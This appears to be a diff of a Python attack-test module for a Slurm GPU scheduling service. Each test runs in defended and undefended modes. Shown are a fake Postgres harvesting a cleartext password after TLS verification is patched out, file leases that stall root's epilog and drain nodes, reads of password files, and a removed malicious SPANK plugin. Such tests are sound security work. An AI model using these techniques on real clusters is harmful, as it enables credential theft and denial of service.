@@ -1,30 +1,40 @@
-"""Attacks on checkpoints, tickets, secrets, and what the hooks read."""
+"""Attacks on checkpoints, passwords, and the files of a job."""
 
 from __future__ import annotations
 
-import json
 import os
+import re
 import shutil
 import subprocess
 import sys
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager, nullcontext
 from pathlib import Path
 
 from contrib.attack.registry import Outcome, attack
-from contrib.attack.site import ROOT, Site
+from contrib.attack.site import Site
 
-SPANK = r"""
-#include <slurm/spank.h>
-SPANK_PLUGIN(mallory, 1);
-int slurm_spank_init_post_opt(spank_t sp, int ac, char **av)
-{
-    if (spank_context() == S_CTX_ALLOCATOR)
-        spank_job_control_setenv(sp, "POLLUX_HOOK_CONFIG", av[0], 1);
-    return 0;
-}
+BELIEVES_ANY_SERVER = """
+from polluxd import config
+from polluxd.store import connection
+config.require_verified = connection.require_verified = lambda words: None
 """
-TAKES_SPANK_OVER = """#!/bin/sh
-[ -z "$SPANK_POLLUX_HOOK_CONFIG" ] || POLLUX_HOOK_CONFIG=$SPANK_POLLUX_HOOK_CONFIG
-export POLLUX_HOOK_CONFIG
+HOLDS_LEASES = """
+import fcntl, signal, sys, time
+signal.signal(signal.SIGIO, signal.SIG_IGN)
+held = []
+for path in sys.argv[1:]:
+    for flags in ("r+", "r"):
+        file = open(path, flags)
+        try:
+            fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_WRLCK if flags == "r+" else fcntl.F_RDLCK)
+        except OSError:
+            continue
+        held.append(file)
+        break
+print(len(held), flush=True)
+time.sleep(120)
 """
 
 
@@ -97,15 +107,10 @@ def folder_made_first(site: Site, defended: bool) -> Outcome:
     return Outcome("checkpoint-" in read, " | ".join(" ".join(text.split())[:160] for text in said))
 
 
-@attack("third", "further: tickets, the secret and the hooks' settings of others read")
-def tickets_read(site: Site, defended: bool) -> Outcome:
-    hooks = site.cluster.hooks
-    files = [
-        site.ticket("alice"),
-        hooks.secret_file,
-        hooks.secret_file.with_name("hooks.json"),
-        site.polluxd.config,
-    ]
+@attack("third", "further: passwords of the database and polluxd's settings read")
+def passwords_read(site: Site, defended: bool) -> Outcome:
+    passfile = site.gateway.config.with_name("gateway.pgpass")
+    files = [site.polluxd.config, site.gateway.config, passfile]
     modes = [path.stat().st_mode for path in files]
     try:
         for path in [] if defended else files:
@@ -120,106 +125,88 @@ def tickets_read(site: Site, defended: bool) -> Outcome:
     )
 
 
-@attack("mallory", "row 19: a false Postgres gets the password in clear")
+@attack("mallory", "row 19: a false Postgres gets polluxd's password in clear")
 def password_in_clear(site: Site, defended: bool) -> Outcome:
     """The connection string has no sslmode, and no loopback address."""
     address = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=True).stdout.split()[0]
-    password = json.loads(site.ticket("alice").read_text())["dsn"].rpartition("password=")[2]
-    false = site.spawn("mallory", *site.command("postgres"), "serve", address, "12")
+    false = site.spawn("mallory", *site.command("postgres"), "serve", address, "20")
     assert false.stdout is not None
     port = false.stdout.readline().strip()
-    words = ["report", str(site.ticket("alice")), f"host={address} port={port}"]
-    said = site.hands("alice", "postgres", *words, *([] if defended else ["unchecked"]))
-    got = false.stdout.readline().strip()
-    return Outcome(
-        got == password, f"mallory got {'her password' if got == password else got}; {said.strip()[:200]}"
-    )
-
-
-@attack("mallory", "further: a ticket of a terabyte fills root's memory in the epilog")
-def ticket_enlarged(site: Site, defended: bool) -> Outcome:
-    job_id = site.pollux_job("mallory")
-    found = site.ticket_of(job_id)
-    assert found is not None
-    enlarged = site.folder / "tickets-enlarged"
-    shutil.rmtree(enlarged, ignore_errors=True)
-    enlarged.mkdir()
-    copy = enlarged / found.name
-    shutil.copy2(found, copy)
-    os.chown(copy, site.uid("mallory"), -1)
-    # A file without data: a gigabyte is enough to see.
-    _as_user(site, "mallory", f"os.truncate({str(copy)!r}, 1 << 30)")
-    program = site.folder / "ticket"
-    text = (ROOT / "slurm_hooks" / "ticket").read_text()
-    assert "LARGEST = 65536" in text
-    program.write_text(text if defended else text.replace("LARGEST = 65536", "LARGEST = -2"))
-    config = json.loads(site.cluster.hooks.secret_file.with_name("hooks.json").read_text())
-    (enlarged / "hooks.json").write_text(json.dumps({**config, "ticket_dir": str(enlarged)}))
-    node = found.name.split(".")[1]
-    environment = {
-        "PATH": os.defpath,
-        "POLLUX_HOOK_CONFIG": str(enlarged / "hooks.json"),
-        **{"SLURM_JOB_GPUS": "0", "SLURM_JOB_ID": str(job_id), "SLURMD_NODENAME": node},
-        **{"SLURM_JOB_UID": str(site.uid("mallory")), "SLURM_JOB_GID": "-1"},
-    }
-    # The largest memory of all children before is known: only more than that shows.
-    measured = (
-        "import resource, subprocess, sys\n"
-        "said = subprocess.run([sys.executable, '-IS', *sys.argv[1:]], capture_output=True, text=True).stderr\n"
-        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024, said)"
-    )
+    assert site.cluster.postgres is not None
+    url = re.sub(r"@127\.0\.0\.1:\d+", f"@{address}:{port}", site.cluster.database_url)
+    password = re.findall(r":([^:@/]+)@", url)[0]
+    config = site.folder / "remote.toml"
+    config.touch(mode=0o600)
+    config.write_text(site.polluxd.config.read_text().replace(site.cluster.database_url, url))
+    patch = "" if defended else BELIEVES_ANY_SERVER
+    main = "\nfrom polluxd.cli.daemon import main\nmain()\n"
     done = subprocess.run(
-        [sys.executable, "-c", measured, str(program), "--after"],
-        env=environment,
+        [sys.executable, "-c", patch + main, "migrate", "--config", str(config)],
+        env={**os.environ, **site.cluster.client_environment},
         capture_output=True,
         text=True,
         check=False,
     )
-    used = int(done.stdout.split()[0])
-    return Outcome(used > 500, f"root's epilog took {used} MB; {done.stdout.strip()[-140:]}")
-
-
-@attack("mallory", "further: variables of a SPANK plugin of mallory's in the prolog that root runs")
-def spank_variables(site: Site, defended: bool) -> Outcome:
-    """Undefended: a prolog that takes SPANK_ variables over."""
-    folder = site.folder / "spank"
-    shutil.rmtree(folder, ignore_errors=True)
-    folder.mkdir()
-    target = site.folder / "root-only"
-    shutil.rmtree(target, ignore_errors=True)
-    target.mkdir(mode=0o700)
-    settings = json.loads(site.cluster.hooks.secret_file.with_name("hooks.json").read_text())
-    (folder / "hooks.json").write_text(json.dumps({**settings, "ticket_dir": str(target)}))
-    (folder / "hooks.json").chmod(0o644)
-    (folder / "mallory.c").write_text(SPANK)
-    build = ["gcc", "-shared", "-fPIC", "-o", str(folder / "mallory.so"), str(folder / "mallory.c")]
-    subprocess.run(build, check=True, capture_output=True)
-    (folder / "plugstack.conf").write_text(f"required {folder}/mallory.so {folder}/hooks.json\n")
-    conf = site.cluster.slurm_conf.read_text() + f"PlugStackConfig={folder}/plugstack.conf\n"
-    (folder / "slurm.conf").write_text(conf)
-    for name in ("gres.conf", "cli_filter.lua"):
-        shutil.copy(site.cluster.slurm_conf.with_name(name), folder / name)
-    prolog = site.cluster.slurm_conf.with_name("hooks") / "prolog"
-    before = prolog.read_text()
-    if not defended:
-        prolog.write_text(before.replace("#!/bin/sh\n", TAKES_SPANK_OVER, 1))
-    try:
-        script = site.script("spank.sh", "#POLLUX max-gpus=1", "env > /dev/null")
-        words = ["sbatch", "--parsable", "--output=/dev/null", "--gres=gpu:1", "--export=ALL", str(script)]
-        variables = {"SLURM_CONF": f"{folder}/slurm.conf", "POLLUX_HOOK_CONFIG": f"{folder}/hooks.json"}
-        done = site.run("mallory", *words, **variables)
-        job_id = int(done.stdout)
-        site.submitted(job_id)
-        site.until(
-            lambda: (job := site.job(job_id)) is not None and bool(job.gpus_per_node_held), "its start", 40.0
-        )
-        site.until(lambda: site.ticket_of(job_id) or list(target.iterdir()), "its ticket, somewhere", 20.0)
-    finally:
-        prolog.write_text(before)
-    made = [path.name for path in target.iterdir()]
+    got = false.stdout.readline().strip()
     return Outcome(
-        bool(made), f"root wrote {made} into a folder of its own; the ticket: {site.ticket_of(job_id)}"
+        got == password,
+        f"mallory got {'the password' if got == password else got}; {done.stderr.strip()[-200:]}",
     )
+
+
+@attack("mallory", "further: leases on all files of a job drain its node at the job's end")
+def leases(site: Site, defended: bool) -> Outcome:
+    """slurmd drains a node whose epilog takes too long.
+
+    root's open of a file with a lease waits 45 s.
+
+    Undefended: an epilog that opens a file of the job's user, as in an earlier version.
+    """
+    home = site.home("mallory")
+    files = [home / name for name in ("output", "checkpoint", "ticket")]
+    for path in files:
+        path.write_text("x")
+        os.chown(path, site.uid("mallory"), -1)
+    epilog = site.folder / "epilog"
+    epilog.write_text(f"#!/bin/sh\ncat {files[-1]} >/dev/null\nexit 0\n")
+    epilog.chmod(0o755)
+    with nullcontext() if defended else _slurm_settings(site, f"Epilog={epilog}", "PrologEpilogTimeout=5"):
+        job_id = site.pollux_job("mallory", "max-gpus=1", f"--output={files[0]}")
+        job = site.job(job_id)
+        assert job is not None
+        (node,) = job.nodes
+        his = site.spawn("mallory", sys.executable, "-c", HOLDS_LEASES, *map(str, files))
+        assert his.stdout is not None
+        held = his.stdout.readline().strip()
+        site.cluster.command("scancel", str(job_id))
+        state = ""
+
+        def over() -> bool:
+            nonlocal state
+            state = site.cluster.command("sinfo", "-h", "-n", node, "-o", "%T").strip()
+            return state == "idle" or "drain" in state
+
+        site.until(over, f"the end of the job on {node}", 40.0)
+        his.kill()
+    if "drain" in state:
+        site.cluster.command("scontrol", "update", f"NodeName={node}", "State=resume")
+    return Outcome("drain" in state, f"{held} leases; node {node} is {state}")
+
+
+@contextmanager
+def _slurm_settings(site: Site, *lines: str) -> Iterator[None]:
+    """Add lines to slurm.conf."""
+    conf = site.cluster.slurm_conf
+    before = conf.read_text()
+    conf.write_text("\n".join((before, *lines)) + "\n")
+    try:
+        site.cluster.command("scontrol", "reconfigure")
+        time.sleep(2.0)
+        yield
+    finally:
+        conf.write_text(before)
+        site.cluster.command("scontrol", "reconfigure")
+        time.sleep(2.0)
 
 
 @attack("mallory", "further: an output file in alice's folder, by sbatch and by a companion")
